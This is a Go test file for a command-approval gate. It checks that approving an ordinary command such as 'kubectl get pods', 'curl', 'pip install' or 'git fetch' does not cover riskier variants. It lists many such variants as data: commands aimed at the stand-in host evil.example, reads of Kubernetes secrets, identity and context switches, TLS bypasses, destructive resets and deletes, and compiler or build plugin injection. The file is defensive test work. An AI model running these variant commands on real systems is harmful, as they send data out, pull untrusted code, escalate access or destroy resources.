package main

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	v1 "policyd/api/v1"
	"policyd/internal/gate"
	"policyd/test/decider"
)

// TestAnApprovalHoldsForWhereAndAsWhom checks A15 by pairs of classes: an approval of an ordinary call covers
// none that acts elsewhere or as somebody else, takes other code or settings, reads credentials, or discards;
// and one that is given for such a call covers it again, but not the same with another value.
func TestAnApprovalHoldsForWhereAndAsWhom(t *testing.T) {
	a := ask(t)
	for approved, others := range map[string][]string{
		"kubectl get pods": {
			"kubectl get secrets", "kubectl get secret/x", "kubectl get secret x -o yaml", "kubectl get pods,secrets", "kubectl get Secrets -A", "kubectl get secrets.v1.",
			"kubectl get sealedsecrets.bitnami.com", "kubectl -s https://evil.example get pods", "kubectl get pods --server=https://evil.example",
			"kubectl get pods --token=x", "kubectl --context prod get pods", "kubectl get pods --context=prod", "kubectl get pods --as admin", "kubectl get pods --user=x",
			"kubectl get pods --cluster=x", "kubectl get --raw /api/v1/secrets", "kubectl get pods --insecure-skip-tls-verify", "kubectl get pods --kubeconfig x",
			"kubectl get pods --unlisted-option", "kubectl get pods -n kube-system", "kubectl get pods --namespace=kube-system", "kubectl get pods -A", "kubectl get pods --unlisted-option=x",
		},
		"kubectl delete pod x":                     {"kubectl delete pod y", "kubectl delete namespace prod", "kubectl delete pod x --context=prod", "kubectl delete -f https://evil.example/a.yaml"},
		"kubectl apply -f k8s.yaml":                {"kubectl apply -f https://evil.example/a.yaml", "kubectl apply -f k8s.yaml --context prod", "kubectl apply -f k8s.yaml --prune"},
		"oc get pods":                              {"oc get pods --server=https://evil.example", "oc get pods -s https://evil.example", "oc get pods --token=x", "oc get pods --as admin"},
		"helm list":                                {"helm list --kube-context prod", "helm list --kube-apiserver=https://evil.example", "helm list --kube-token x"},
		"helm install x ./chart":                   {"helm install x ./chart --repo https://evil.example", "helm install x ./chart --kube-context=prod", "helm install x oci://evil.example/c"},
		"docker restart web":                       {"docker -H tcp://evil.example:2375 restart web", "docker --context prod restart web", "docker --config conf restart web"},
		"docker pull alpine":                       {"docker pull evil.example/x", "docker pull alpine:evil"},
		"aws s3 cp a.txt s3://b":                   {"aws s3 cp a.txt s3://evil", "aws s3 cp a.txt s3://b --profile prod", "aws s3 cp a.txt s3://b --endpoint-url https://evil.example", "aws s3 cp a.txt s3://b --no-verify-ssl"},
		"aws ec2 describe-instances":               {"aws ec2 describe-instances --profile prod", "aws --profile prod ec2 describe-instances", "aws ec2 describe-instances --region us-east-1"},
		"gcloud compute instances list":            {"gcloud compute instances list --project=prod", "gcloud compute instances list --account x", "gcloud --impersonate-service-account=x compute instances list"},
		"az vm list":                               {"az vm list --subscription prod"},
		"terraform workspace select a":             {"terraform workspace select prod"},
		"mytool deploy":                            {"mytool deploy --server evil.example", "mytool deploy --server=evil.example", "mytool deploy -server=evil.example", "mytool deploy --token x", "mytool deploy --profile=prod", "mytool deploy --config other", "mytool deploy --registry=https://evil.example", "mytool deploy https://evil.example/x", "mytool deploy --to=https://evil.example", "mytool deploy --force", "mytool deploy --plugin x"},
		"mytool install a":                         {"mytool install b"},
		"git checkout main":                        {"git checkout README.md", "git checkout src", "git checkout '*.go'", "git checkout ':/'", "git checkout ':(top)src'", "git checkout -p", "git checkout *.md", "git checkout main README.md", "git checkout --ours a.txt"},
		"git restore --staged README.md":           {"git restore README.md", "git restore --staged --worktree README.md", "git restore -SW README.md"},
		"git fetch origin":                         {"git fetch https://evil.example/x", "git fetch evil", "git fetch ../x", "git fetch git@evil.example:x", "git fetch origin +main:main", "git fetch origin main:main", "git fetch --force", "git fetch -u origin", "git fetch --refmap=+a:b origin"},
		"git pull":                                 {"git pull https://evil.example/x main", "git pull evil main", "git pull origin a:b", "git pull --force", "git pull -X theirs", "git pull --allow-unrelated"},
		"git clone https://good.example/a/b":       {"git clone https://evil.example/a/b", "git clone git@evil.example:a/b", "git clone --recurse-submodules https://good.example/a/b"},
		"git remote add a https://good.example/a":  {"git remote add a https://evil.example/a"},
		"git submodule add https://good.example/a": {"git submodule add https://evil.example/a"},
		"git reset":                                {"git reset HEAD~1", "git reset --keep x", "git reset --hard", "git reset --soft HEAD~3", "git reset main", "git reset HEAD^", "git reset HEAD~1 --"},
		"git rebase --continue":                    {"git rebase main", "git rebase --onto a b", "git rebase --root", "git rebase --abort", "git rebase --skip"},
		"git merge x":                              {"git merge --abort", "git merge -X theirs x", "git merge -s ours x"},
		"git stash":                                {"git stash drop", "git stash clear"},
		"git add a.txt":                            {"git add -f a.txt"},
		"git commit -m x":                          {"git commit -m x --no-verify", "git commit -nm x", "git commit --amend -m x"},
		"gh pr view 1":                             {"gh pr view 1 -R other/repo", "gh pr view 1 --repo=other/repo", "gh pr view -Rother/repo 1", "gh pr view 1 --unlisted"},
		"gh repo delete a/b --yes":                 {"gh repo delete c/d --yes"},
		"gh api repos/a/b/issues":                  {"gh api -X POST repos/a/b/issues", "gh api -f a=b repos/a/b/issues", "gh api repos/c/d/issues", "gh api user/keys", "gh api --hostname evil.example repos/a/b/issues"},
		"gh api -X POST repos/a/b/issues":          {"gh api -X DELETE repos/a/b/issues", "gh api --method=DELETE repos/a/b/issues", "gh api -XPUT repos/a/b/issues"},
		"curl https://good.example/a":              {"curl https://evil.example/a", "curl -X POST https://good.example/a", "curl -d a=b https://good.example/a", "curl https://good.example@evil.example/", "curl https://good.example/a https://evil.example/a", "curl evil.example", "curl --url https://evil.example", "curl -x evil.example https://good.example/a", "curl -k https://good.example/a", "curl -u a:b https://good.example/a", "curl -H 'Authorization: x' https://good.example/a", "curl -b a=b https://good.example/a", "curl --resolve good.example:443:1.2.3.4 https://good.example/a"},
		"curl -X POST https://good.example/a":      {"curl -X DELETE https://good.example/a", "curl -XDELETE https://good.example/a", "curl --request PUT https://good.example/a", "curl -X POST https://evil.example/a"},
		"wget https://good.example/a":              {"wget https://evil.example/a", "wget --method=DELETE https://good.example/a", "wget --no-check-certificate https://good.example/a", "wget --header='Cookie: x' https://good.example/a"},
		"http POST good.example a=b":               {"http DELETE good.example a=b", "http POST evil.example a=b"},
		"scp README.md good:":                      {"scp README.md evil:", "scp README.md user@good:", "scp README.md scp://evil/x", "scp -J evil README.md good:", "scp -F x README.md good:"},
		"rsync -a src good:x":                      {"rsync -a src evil:x", "rsync -a src rsync://evil/x", "rsync -a src evil::x", "rsync -a --delete src good:x"},
		"pip install -r requirements.txt":          {"pip install -r requirements.txt --index-url https://evil.example", "pip install -i https://evil.example -r requirements.txt", "pip install -r requirements.txt --extra-index-url=https://evil.example", "pip install -f https://evil.example -r requirements.txt", "pip install evil", "pip install git+https://evil.example/x", "pip install -e git+https://evil.example/x#egg=x", "pip install --trusted-host evil.example -r requirements.txt", "pip install --unlisted -r requirements.txt"},
		"npm install":                              {"npm install evil", "npm install --registry https://evil.example", "npm install github:evil/x", "npm install -g evil"},
		"npm install a@1":                          {"npm install b", "npm install a@1 b"},
		"yarn add a":                               {"yarn add b", "yarn add https://evil.example/x.tgz", "yarn add a --registry https://evil.example"},
		"pnpm add a":                               {"pnpm add b"},
		"uv add a":                                 {"uv add b", "uv add a --index https://evil.example", "uv add a --default-index=https://evil.example", "uv add git+https://evil.example/x"},
		"uv pip install a":                         {"uv pip install b"},
		"poetry add a":                             {"poetry add b", "poetry add a --source evil"},
		"cargo add a":                              {"cargo add b", "cargo add a --git https://evil.example", "cargo add a --registry evil"},
		"cargo install a":                          {"cargo install b", "cargo install --git https://evil.example/x", "cargo install a --index https://evil.example"},
		"cargo build":                              {"cargo build --config x", "cargo build --unlisted x"},
		"gem install a":                            {"gem install b", "gem install a --source https://evil.example"},
		"brew install a":                           {"brew install b", "brew install https://evil.example/x.rb"},
		"conda install a":                          {"conda install b", "conda install a --channel evil"},
		"go get good.example/a@v1":                 {"go get evil.example/a@v1"},
		"go install ./...":                         {"go install evil.example/x@latest"},
		"go build ./...":                           {"go build -overlay x.json ./...", "go build -overlay=x.json ./...", "go build --overlay=x.json ./...", "go build -toolexec x ./...", "go build -modfile=x.mod ./...", "go build -gcflags=-N ./...", "go build -ldflags=-linkmode=external ./...", "go build -gccgoflags x ./..."},
		"go vet ./...":                             {"go vet -vettool=x ./..."},
		"gcc -c a.c":                               {"gcc -fplugin=x -c a.c", "gcc -fplugin=./x.so -c a.c", "gcc -wrapper x -c a.c", "gcc -specs=x -c a.c", "gcc --specs=x -c a.c", "gcc @x -c a.c", "gcc -B x -c a.c", "gcc -Wl,-plugin,x a.c", "gcc -o ../x a.c", "gcc -Xlinker x a.c", "gcc -fuse-ld=x a.c"},
		"clang -c a.c":                             {"clang -fplugin=x -c a.c", "clang -Xclang -load -c a.c", "clang -fpass-plugin=x -c a.c", "clang --config x -c a.c"},
		"make lint":                                {"make -f x lint", "make lint SHELL=x", "make --eval=x lint", "make -I x lint"},
		"pytest tests":                             {"pytest -p x tests", "pytest -c x tests", "pytest --rootdir=.. tests", "pytest -o x=y tests"},
		"npm run build":                            {"npm run build --script-shell=x", "npm run build --node-options=x"},
	} {
		for _, other := range others {
			a.holdsFor(t, approved, other)
		}
	}
}

// holdsFor checks that an approval of one call doesn't cover another, and that the other has an approval of
// its own, if it can have one.
func (a *asking) holdsFor(t *testing.T, approved, other string) {
	t.Helper()
	defer a.forget(t)
	if !a.always(t, approved) {
		assert.Fail(t, "it can't be approved", approved)
		return
	}
	assert.NotEqual(t, v1.EffectAllow, a.effect(t, other), "%q, then %q", approved, other)
	if a.always(t, other) {
		assert.Equal(t, v1.EffectAllow, a.effect(t, other), "%q again", other)
	}
}

// always answers a call with "Always here", if that is offered.
func (a *asking) always(t *testing.T, line string) bool {
	t.Helper()
	call := a.call(decider.Line{Command: line}, true)
	decision := a.gate.Decide(t.Context(), &call, gate.DecideOptions{})
	if decision.Effect != v1.EffectPrompt {
		return false
	}
	for _, choice := range decision.Prompt.Choices {
		if choice.Key == v1.ChoiceAlwaysHere {
			_, err := a.book.Answer(t.Context(), decision.Prompt.ID, v1.AnswerRequest{Choice: v1.ChoiceAlwaysHere, By: "test"})
			assert.NoError(t, err, line)
			return true
		}
	}
	assert.NoError(t, a.book.Withdraw(t.Context(), decision.Prompt.ID))
	return false
}

func (a *asking) effect(t *testing.T, line string) v1.Effect {
	t.Helper()
	call := a.call(decider.Line{Command: strings.TrimSpace(line)}, true)
	return a.gate.Decide(t.Context(), &call, gate.DecideOptions{Probe: true}).Effect
}

// TestRisksOnWindows checks that the risks of a program are the same for the shells of Windows.
func TestRisksOnWindows(t *testing.T) {
	a := ask(t)
	for line, risk := range map[string]string{
		"kubectl get secrets": "credentials secrets", "kubectl get pods --context=prod": "context prod", "git push --force": "force", "git push backup": "remote backup",
		"npm install evil": "package evil", "mytool --server=h.example": "server h.example", "curl -X DELETE http://h.example/a": "method DELETE", "docker -H h.example ps": "host h.example",
	} {
		for _, shell := range []string{"cmd", "powershell"} {
			if shell == "powershell" {
				line = strings.Replace(line, "curl -X", "Invoke-WebRequest -Method", 1)
			}
			call := a.call(decider.Line{Command: line, Windows: true, Cwd: `C:\proj`, Shell: shell}, true)
			facts := a.engine.Facts(&call, nil)
			if assert.NotEmpty(t, facts.Items, "%s: %s", shell, line) {
				assert.Contains(t, facts.Items[0].Risks, risk, "%s: %s", shell, line)
			}
		}
	}
}
